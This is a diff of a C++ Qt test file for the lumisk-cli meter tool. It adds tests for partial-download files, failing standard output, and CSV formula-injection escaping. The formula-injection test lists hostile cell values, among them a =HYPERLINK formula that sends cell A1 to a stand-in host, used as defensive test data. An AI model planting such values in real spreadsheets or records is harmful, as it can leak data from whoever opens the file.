@@ -1,7 +1,8 @@
 // lumisk-cli against the simulated meter: what it links, the files it
 // writes (read back with openpyxl, Python's csv and a JSON parser), its exit
-// codes under the meter's faults, Ctrl-C in the middle of a download, and
-// the workbook the window's report writer makes of the same records.
+// codes under the meter's faults, Ctrl-C in the middle of a download,
+// standard output that fails or is closed, record names a spreadsheet would
+// run, and the workbook the window's report writer makes of the same records.
 
 #include "testregistry.h"
 #include "testsupport.h"
@@ -12,6 +13,7 @@
 #include "history/pgcluster.h"
 #include "link/devdatas.h"
 #include "link/frame.h"
+#include "report/csvwriter.h"
 #include "report/opmxlsx.h"
 #include "report/partialopmxlsx.h"
 #include "report/ponxlsx.h"
@@ -95,6 +97,34 @@ class TestCli : public QObject
         if (!in.open(QIODevice::ReadOnly))
             return {};
         return QJsonDocument::fromJson(in.readAll()).object();
+    }
+
+    // The rows of a CSV file as Python's csv module reads them, header first.
+    static QList<QStringList> readCsv(const QString &file)
+    {
+        QString output;
+        if (testsupport::runPython(QStringLiteral("cli/read_csv.py"), {file}, &output) != 0)
+            return {};
+        QList<QStringList> rows;
+        for (const auto &row : QJsonDocument::fromJson(output.toUtf8()).object().value(QStringLiteral("rows")).toArray()) {
+            QStringList fields;
+            for (const auto &field : row.toArray())
+                fields << field.toString();
+            rows << fields;
+        }
+        return rows;
+    }
+
+    static QByteArray contents(const QString &file)
+    {
+        QFile in(file);
+        return in.open(QIODevice::ReadOnly) ? in.readAll() : QByteArray();
+    }
+
+    static bool writeFile(const QString &file, const QByteArray &bytes)
+    {
+        QFile out(file);
+        return out.open(QIODevice::WriteOnly | QIODevice::Truncate) && out.write(bytes) == bytes.size();
     }
 
     static QStringList numbersOf(const QJsonArray &records)
@@ -226,13 +256,23 @@ private slots:
         QVERIFY(sim.start(QStringList{QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"),
                                       QStringLiteral("30")}
                           + faults));
+        // Yesterday's complete file stays unless this download completes;
+        // what arrived of an unfinished one goes to FILE.partial.
         const QString file = path(QStringLiteral("faults.json"));
-        QFile::remove(file);
+        const QString partial = file + QStringLiteral(".partial");
+        const QByteArray yesterday("{\"complete\": true}");
+        QVERIFY(writeFile(file, yesterday));
+        QFile::remove(partial);
         const Run run = cli({QStringLiteral("download"), QStringLiteral("--family"), QStringLiteral("single"),
                              QStringLiteral("--out"), file, QStringLiteral("--no-history")},
                             {sim.linkPath()});
         QVERIFY2(run.code == exitCode, qPrintable(QString::number(run.code) + QLatin1Char(' ') + run.err));
-        const QJsonObject json = readJson(file);
+        QCOMPARE(QFile::exists(partial), exitCode != 0);
+        if (exitCode != 0) {
+            QCOMPARE(contents(file), yesterday);
+            QVERIFY2(run.err.contains(partial), qPrintable(run.err));
+        }
+        const QJsonObject json = readJson(exitCode == 0 ? file : partial);
         QCOMPARE(numbersOf(json.value(QStringLiteral("records")).toArray()), firstNumbers(records));
         QCOMPARE(json.value(QStringLiteral("complete")).toBool(), exitCode == 0);
     }
@@ -277,7 +317,9 @@ private slots:
                 const QJsonArray fields = rows.at(row++).toArray();
                 auto field = [&](const char *name) { return fields.at(header.indexOf(QLatin1String(name))).toString(); };
                 QCOMPARE(field("record"), record.value(QStringLiteral("record")).toString());
-                QCOMPARE(field("name"), record.value(QStringLiteral("name")).toString());
+                // A name is the same text, kept from running as a formula in the CSV.
+                QCOMPARE(field("name"), CsvWriter::cell(record.value(QStringLiteral("name")).toString(),
+                                                        CsvWriter::Column::Text));
                 QCOMPARE(field("time"), record.value(QStringLiteral("time")).toString());
                 QCOMPARE(field("verdict"), reading.value(QStringLiteral("verdict")).toString());
                 verdicts << field("verdict");
@@ -400,8 +442,9 @@ private slots:
         }
     }
 
-    // Ctrl-C in the middle of a download: exit code 130, and the file and the
-    // history hold every record that arrived, in order.
+    // Ctrl-C in the middle of a download: exit code 130, the history and
+    // FILE.partial hold every record that arrived, in order, and FILE is
+    // left as it was.
     void interruptKeepsWhatArrived()
     {
         MeterSim sim;
@@ -410,6 +453,7 @@ private slots:
                            QStringLiteral("--trickle"), QStringLiteral("9600")}));
         const QString file = path(QStringLiteral("interrupted.csv"));
         const QString history = path(QStringLiteral("interrupted.sqlite"));
+        QVERIFY(writeFile(file, "yesterday"));
         QProcess process;
         QProcessEnvironment env = environment({sim.linkPath()});
         env.insert(QStringLiteral("LUMISK_HISTORY_DB"), history);
@@ -423,13 +467,12 @@ private slots:
         QVERIFY(process.waitForFinished(30000));
         QCOMPARE(process.exitStatus(), QProcess::NormalExit);
         QCOMPARE(process.exitCode(), 130);
+        QCOMPARE(contents(file), QByteArray("yesterday"));
 
-        QString output;
-        QCOMPARE(testsupport::runPython(QStringLiteral("cli/read_csv.py"), {file}, &output), 0);
-        const QJsonArray rows = QJsonDocument::fromJson(output.toUtf8()).object().value(QStringLiteral("rows")).toArray();
+        const QList<QStringList> rows = readCsv(file + QStringLiteral(".partial"));
         QStringList numbers;
         for (int i = 1; i < rows.size(); ++i)
-            numbers << rows.at(i).toArray().at(1).toString();
+            numbers << rows.at(i).value(1);
         QVERIFY(numbers.size() >= 4);
         QVERIFY(numbers.size() < 400);
         QCOMPARE(numbers, firstNumbers(int(numbers.size())));
@@ -439,6 +482,104 @@ private slots:
         const auto sessions = store.sessionList();
         QCOMPARE(sessions.size(), 1);
         QCOMPARE(sessions.first().count, int(numbers.size()));
+        QVERIFY(sessions.first().ended.isValid());
+    }
+
+    // Record names from the meter that a spreadsheet would run as formulas
+    // stay text in the CSV (a leading '), while numbers stay plain; the
+    // workbook keeps every name exactly as the meter sent it.
+    void formulaNamesStayText()
+    {
+        // The names of tests/cli/formula_names.json, as sent and as the CSV holds them.
+        const QList<QPair<QString, QString>> names{
+            {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
+            {"@SUM(1+1)", "'@SUM(1+1)"},
+            {"+1+2", "'+1+2"},
+            {"-12.5", "'-12.5"},
+            {"\tcmd", "'\tcmd"},
+            {"\r=1+1", "'\r=1+1"},
+            {"A1=B1", "A1=B1"},
+        };
+        MeterSim sim;
+        QVERIFY(sim.start({QStringLiteral("--scenario"), QStringLiteral(LUMISK_SOURCE_DIR "/tests/cli/formula_names.json")}));
+        const QString csv = path(QStringLiteral("names.csv"));
+        const QString xlsx = path(QStringLiteral("names.xlsx"));
+        for (const QString &file : {csv, xlsx}) {
+            const Run run = cli({QStringLiteral("download"), QStringLiteral("-f"), QStringLiteral("single"),
+                                 QStringLiteral("-o"), file, QStringLiteral("--no-history")},
+                                {sim.linkPath()});
+            QVERIFY2(run.code == 0, qPrintable(run.err));
+        }
+        const QList<QStringList> rows = readCsv(csv);
+        QCOMPARE(rows.size(), names.size() + 1);
+        const int name = int(rows.first().indexOf(QStringLiteral("name")));
+        const int power = int(rows.first().indexOf(QStringLiteral("power")));
+        const WorkbookDump book = WorkbookDump::read(xlsx);
+        QVERIFY2(book.ok(), qPrintable(book.error));
+        for (int i = 0; i < names.size(); ++i) {
+            QCOMPARE(rows.at(i + 1).value(name), names.at(i).second);
+            QCOMPARE(rows.at(i + 1).value(power), QStringLiteral("-12.5"));
+            // openpyxl leaves the workbook's escape of a carriage return (as Excel reads it) undone.
+            QCOMPARE(book.text(QStringLiteral("B%1").arg(i + 2)).replace(QLatin1String("_x000D_"), QLatin1String("\r")),
+                     names.at(i).first);
+        }
+    }
+
+    // Standard output that fails: a full disk gives exit 5 and the reason; a
+    // reader that goes after one line (| head -1) stops the command as
+    // Ctrl-C does, without a word, with 141. The history session is ended
+    // either way, with what arrived.
+    void outputThatFails_data()
+    {
+        QTest::addColumn<QStringList>("args");
+        QTest::addColumn<QString>("sink"); // the shell's redirection of standard output
+        QTest::addColumn<int>("exitCode");
+        QTest::addColumn<QString>("stderrHas"); // empty: nothing on stderr at all
+        QTest::addColumn<bool>("sessionKept");
+        const QStringList download{"download", "-f", "single", "-o", "-", "-q"};
+        const QStringList sample{"sample", "-i", "0.5s", "-d", "1m", "-q"};
+        QTest::newRow("download, full disk") << download << "> /dev/full" << 5 << "No space left on device" << true;
+        QTest::newRow("sample, full disk") << sample << "> /dev/full" << 5 << "No space left on device" << false;
+        QTest::newRow("history list, full disk") << QStringList{"history", "list", "--json"} << "> /dev/full" << 5
+                                                 << "cannot write to standard output" << false;
+        QTest::newRow("download into head") << download << "| head -1 > /dev/null" << 141 << "" << true;
+        QTest::newRow("sample into head") << sample << "| head -1 > /dev/null" << 141 << "" << true;
+    }
+    void outputThatFails()
+    {
+        QFETCH(QStringList, args);
+        QFETCH(QString, sink);
+        QFETCH(int, exitCode);
+        QFETCH(QString, stderrHas);
+        QFETCH(bool, sessionKept);
+        MeterSim sim;
+        // Answers trickled at 9600 baud: the reader is gone before the download ends.
+        QVERIFY(sim.start({QStringLiteral("--kind"), QStringLiteral("6"), QStringLiteral("--records"), QStringLiteral("400"),
+                           QStringLiteral("--trickle"), QStringLiteral("9600")}));
+        QTemporaryDir own;
+        const QString history = own.filePath(QStringLiteral("history.sqlite"));
+        QProcess shell;
+        QProcessEnvironment env = environment({sim.linkPath()});
+        env.insert(QStringLiteral("LUMISK_HISTORY_DB"), history);
+        shell.setProcessEnvironment(env);
+        shell.start(QStringLiteral("bash"),
+                    QStringList{QStringLiteral("-c"), QStringLiteral("\"$0\" \"$@\" %1; exit ${PIPESTATUS[0]}").arg(sink),
+                                QStringLiteral(LUMISK_CLI)}
+                        + args);
+        QVERIFY(shell.waitForFinished(120000));
+        const QString err = QString::fromUtf8(shell.readAllStandardError());
+        QVERIFY2(shell.exitCode() == exitCode, qPrintable(QString::number(shell.exitCode()) + QLatin1Char(' ') + err));
+        if (stderrHas.isEmpty())
+            QVERIFY2(err.isEmpty(), qPrintable(err));
+        else
+            QVERIFY2(err.contains(stderrHas), qPrintable(err));
+        if (!sessionKept)
+            return;
+        HistoryStore store(history);
+        QVERIFY(store.open());
+        const auto sessions = store.sessionList();
+        QCOMPARE(sessions.size(), 1);
+        QVERIFY(sessions.first().count >= 1);
         QVERIFY(sessions.first().ended.isValid());
     }
 
